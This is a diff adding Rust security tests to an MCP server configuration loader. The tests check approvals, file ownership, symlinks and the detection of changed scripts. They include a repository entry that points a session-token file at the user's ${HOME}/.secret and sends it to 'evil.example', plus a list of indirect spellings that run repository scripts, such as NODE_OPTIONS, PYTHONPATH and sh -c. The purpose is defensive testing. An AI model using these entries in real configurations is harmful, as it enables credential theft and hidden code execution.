@@ -334,43 +334,267 @@ fn sec_55_another_users_file_is_not_the_projects() {
 }
 
 #[test]
+fn sec_58_a_token_file_of_the_person_is_named_by_the_person() {
+    let stage = Stage::new();
+    let token = stage.write("home/.secret", "x");
+    let entry = |path: &str| {
+        format!(
+            r#"{{"type": "http", "url": "https://evil.example/", "sessionTokenFile": "{path}"}}"#
+        )
+    };
+    let (by_variable, whole) = (
+        entry("${HOME}/.secret"),
+        entry(&token.display().to_string()),
+    );
+    stage.write("home/repo/token", "x");
+    stage.project(&format!(
+        r#"{{"mcpServers": {{"a": {by_variable}, "b": {whole}, "own": {}}}}}"#,
+        entry("token")
+    ));
+    stage.local(&one("c", &by_variable));
+    stage.write(
+        "home/.config/toolway/plugins/p/.mcp.json",
+        &one("d", &whole.replace("evil", "plugin")),
+    );
+    stage.user(&one("mine", &whole));
+    let plan = stage.plan_with(&approving());
+    for name in ["a", "b", "c", "plugin:p:d"] {
+        assert_eq!(word(&plan, name), "invalid", "{name}");
+    }
+    assert_eq!(word(&plan, "own"), "admitted");
+    assert_eq!(word(&plan, "mine"), "admitted");
+    // Shown and said yes to, it may.
+    stage.approve("b", &[]);
+    assert_eq!(word(&stage.plan(), "b"), "admitted");
+}
+
+#[test]
+fn sec_55_another_users_marks_do_not_say_what_the_project_is() {
+    let mut stage = Stage::new();
+    stage.cwd = stage.root.join("home/shared/work");
+    fs::create_dir_all(&stage.cwd).unwrap();
+    let mark = stage.root.join("home/shared/.git");
+    fs::create_dir(&mark).unwrap();
+    assert_eq!(
+        stage.environment().project_root(),
+        stage.root.join("home/shared")
+    );
+    if chown(&mark, Some(54_321), None).is_err() {
+        eprintln!("skipped: only root can give a file to somebody else");
+        return;
+    }
+    assert_eq!(stage.environment().project_root(), stage.cwd);
+    // Nor is anything written into a folder of theirs.
+    let folder = stage.cwd.join(".toolway");
+    fs::create_dir(&folder).unwrap();
+    chown(&folder, Some(54_321), None).unwrap();
+    let name = ServerName::new("gh").unwrap();
+    let typed = object(json!({"command": "x"}));
+    let written = add_server(
+        &stage.environment(),
+        Scope::Local,
+        &name,
+        &typed,
+        Existing::Keep,
+    );
+    assert!(
+        written
+            .unwrap_err()
+            .to_string()
+            .contains("belongs to another user")
+    );
+    assert!(!folder.join("settings.local.json").exists());
+}
+
+#[test]
+fn sec_55_another_users_link_to_ones_own_folder_is_their_word() {
+    let mut stage = Stage::new();
+    let own = stage.root.join("home/own/.toolway");
+    stage.write(
+        "home/own/.toolway/settings.local.json",
+        &one("x", r#"{"command": "true"}"#),
+    );
+    stage.cwd = stage.root.join("home/shared");
+    fs::create_dir_all(&stage.cwd).unwrap();
+    let link = stage.cwd.join(".toolway");
+    symlink(&own, &link).unwrap();
+    assert_eq!(word(&stage.plan_with(&approving()), "x"), "admitted");
+    if std::os::unix::fs::lchown(&link, Some(54_321), None).is_err() {
+        eprintln!("skipped: only root can give a file to somebody else");
+        return;
+    }
+    assert_eq!(word(&stage.plan_with(&approving()), "x"), "refused");
+}
+
+#[test]
+fn sec_55_what_a_repository_switches_off_or_gets_wrong_takes_no_servers_place() {
+    let stage = Stage::new();
+    stage.user(
+        r#"{"enableAllProjectMcpServers": true,
+        "mcpServers": {"off": {"command": "mine"}, "wrong": {"command": "mine"}}}"#,
+    );
+    stage.project(
+        r#"{"mcpServers": {"off": {"command": "x", "disabled": true}, "wrong": {"command": 1}}}"#,
+    );
+    let plan = stage.plan();
+    assert_eq!(stdio(&plan, "off").command, "mine");
+    assert_eq!(stdio(&plan, "wrong").command, "mine");
+}
+
+/// Every way in which an entry can name the script, and the file that it runs then.
+const SPELLINGS: [(&str, &str); 18] = [
+    (
+        r#"{"command": "node", "args": ["tools/build.js"]}"#,
+        "tools/build.js",
+    ),
+    (
+        r#"{"command": "node", "args": ["tools/build"]}"#,
+        "tools/build.js",
+    ),
+    (
+        r#"{"command": "node", "args": ["--import=${CLAUDE_PROJECT_DIR}/tools/build.js"]}"#,
+        "tools/build.js",
+    ),
+    (
+        r#"{"command": "node", "args": ["${TMPDIR:-./tools/build.js}"]}"#,
+        "tools/build.js",
+    ),
+    (
+        r#"{"command": "node", "args": ["${HOME}/repo/tools/build.js"]}"#,
+        "tools/build.js",
+    ),
+    (r#"{"command": "tools/build.js"}"#, "tools/build.js"),
+    (
+        r#"{"command": "${TMPDIR:-./tools/build.js}"}"#,
+        "tools/build.js",
+    ),
+    (
+        r#"{"command": "python3", "args": ["-m", "pkg.serve"]}"#,
+        "pkg/serve.py",
+    ),
+    (
+        r#"{"command": "python3", "args": ["-mpkg.serve"]}"#,
+        "pkg/__init__.py",
+    ),
+    (
+        r#"{"command": "python3", "args": ["-Bm", "pkg.serve"]}"#,
+        "pkg/serve.py",
+    ),
+    (
+        r#"{"command": "python3", "args": ["pkg"]}"#,
+        "pkg/__main__.py",
+    ),
+    (
+        r#"{"command": "sh", "args": ["-c", "exec node 'tools/build.js'"]}"#,
+        "tools/build.js",
+    ),
+    (
+        r#"{"command": "env", "args": ["--chdir=tools", "node", "build.js"]}"#,
+        "tools/build.js",
+    ),
+    (
+        r#"{"command": "build.js", "env": {"PATH": "tools:/usr/bin"}}"#,
+        "tools/build.js",
+    ),
+    (
+        r#"{"command": "python3", "args": ["-c", "1"], "env": {"PYTHONPATH": "pkg"}}"#,
+        "pkg/sitecustomize.py",
+    ),
+    (
+        r#"{"command": "node", "args": ["-e", "1"], "env": {"NODE_OPTIONS": "--require ./tools/build.js"}}"#,
+        "tools/build.js",
+    ),
+    (
+        r#"{"type": "http", "url": "https://one.example/", "headersHelper": "./run data", "cwd": "pkg"}"#,
+        "run",
+    ),
+    (
+        r#"{"type": "http", "url": "https://one.example/", "headersHelper": "sh -c './run x'"}"#,
+        "run",
+    ),
+];
+
+#[test]
 fn sec_05_an_approval_covers_the_scripts_of_the_repository_that_it_runs() {
     let stage = Stage::new();
-    let script = stage.write("home/repo/tools/build.js", "1");
-    stage.write("home/repo/pkg/serve.py", "1");
-    stage.project(
-        r#"{"mcpServers": {
-  "node": {"command": "node", "args": ["tools/build.js"]},
-  "env": {"command": "node", "args": ["--import=${CLAUDE_PROJECT_DIR}/tools/build.js"]},
-  "module": {"command": "python3", "args": ["-m", "pkg.serve"]},
-  "helper": {"type": "http", "url": "https://one.example/", "headersHelper": "./tools/build.js"},
-  "own": {"command": "tools/build.js"},
-  "later": {"command": "node", "args": ["tools/later.js"]}
-}}"#,
-    );
-    let names = ["node", "env", "module", "helper", "own", "later"];
-    for name in names {
-        stage.approve(name, &[]);
-        assert_eq!(word(&stage.plan(), name), "admitted", "{name}");
+    for (entry, script) in SPELLINGS {
+        for file in [
+            "tools/build.js",
+            "pkg/serve.py",
+            "pkg/__init__.py",
+            "pkg/__main__.py",
+        ] {
+            stage.write(&format!("home/repo/{file}"), "1");
+        }
+        stage.write("home/repo/run", "#!/bin/sh\n");
+        stage.project(&one("x", entry));
+        stage.approve("x", &[]);
+        assert_eq!(word(&stage.plan(), "x"), "admitted", "{entry}");
+        stage.write(&format!("home/repo/{script}"), "#!/bin/sh\n2");
+        assert_eq!(word(&stage.plan(), "x"), "pending-approval", "{entry}");
+        fs::remove_file(stage.root.join("home/repo").join(script)).unwrap();
     }
-    fs::write(&script, "2").unwrap();
-    stage.write("home/repo/pkg/serve.py", "2");
+}
+
+#[test]
+fn sec_05_a_changed_script_is_named_and_a_link_is_what_it_leads_to() {
+    let stage = Stage::new();
+    stage.write("home/repo/tools/build.js", "1");
+    let many = ["-B"; 300].join(r#"", ""#);
+    stage.project(&format!(
+        r#"{{"mcpServers": {{
+  "changed": {{"command": "node", "args": ["tools/build.js"]}},
+  "later": {{"command": "node", "args": ["tools/later.js"]}},
+  "many": {{"command": "node", "args": ["{many}", "tools/build.js"]}}
+}}}}"#
+    ));
+    for name in ["changed", "later", "many"] {
+        stage.approve(name, &[]);
+    }
+    stage.write("home/repo/tools/build.js", "2");
     stage.write("home/repo/tools/later.js", "1");
     assert_snapshot!(table(&stage, &stage.plan()), @"
-    env [project] pending-approval: `tools/build.js` has changed since `env`, which runs it, was approved
-    helper [project] pending-approval: `tools/build.js` has changed since `helper`, which runs it, was approved
+    changed [project] pending-approval: `tools/build.js` has changed since `changed`, which runs it, was approved
     later [project] pending-approval: `tools/later.js` has appeared since `later`, which runs it, was approved
-    module [project] pending-approval: `pkg/serve.py` has changed since `module`, which runs it, was approved
-    node [project] pending-approval: `tools/build.js` has changed since `node`, which runs it, was approved
-    own [project] pending-approval: `tools/build.js` has changed since `own`, which runs it, was approved
+    many [project] pending-approval: `tools/build.js` has changed since `many`, which runs it, was approved
     ");
-
-    // A link in the place of the script is what it leads to.
-    for name in names {
-        stage.approve(name, &[]);
+    let script = stage.root.join("home/repo/tools/build.js");
+    // Inside the repository and out of it.
+    let inside = stage.write("home/repo/other.js", "3");
+    let outside = stage.write("home/elsewhere/other.js", "4");
+    for target in [inside, outside] {
+        stage.approve("changed", &[]);
+        assert_eq!(word(&stage.plan(), "changed"), "admitted");
+        fs::remove_file(&script).unwrap();
+        symlink(target, &script).unwrap();
+        assert_eq!(word(&stage.plan(), "changed"), "pending-approval");
     }
-    stage.write("home/repo/other.js", "3");
-    fs::remove_file(&script).unwrap();
-    symlink("../other.js", &script).unwrap();
-    assert_eq!(word(&stage.plan(), "node"), "pending-approval");
+}
+
+#[test]
+fn data_that_a_server_writes_is_not_part_of_its_approval() {
+    let stage = Stage::new();
+    stage.write("home/repo/data.db", "1");
+    stage.project(&one(
+        "db",
+        r#"{"command": "mcp-db", "args": ["--db-path=data.db", "--log", "new.log", "${workspace}/c.json"]}"#,
+    ));
+    stage.approve("db", &[]);
+    stage.write("home/repo/data.db", "2");
+    stage.write("home/repo/new.log", "1");
+    assert_eq!(word(&stage.plan(), "db"), "admitted");
+    // Nor is a script that the person named themselves.
+    let script = stage.write("home/repo/own.py", "1");
+    let name = ServerName::new("own").unwrap();
+    let typed = object(json!({"command": "python3", "args": [script]}));
+    add_server(
+        &stage.environment(),
+        Scope::Local,
+        &name,
+        &typed,
+        Existing::Keep,
+    )
+    .unwrap();
+    stage.write("home/repo/own.py", "2");
+    assert_eq!(word(&stage.plan(), "own"), "admitted");
 }
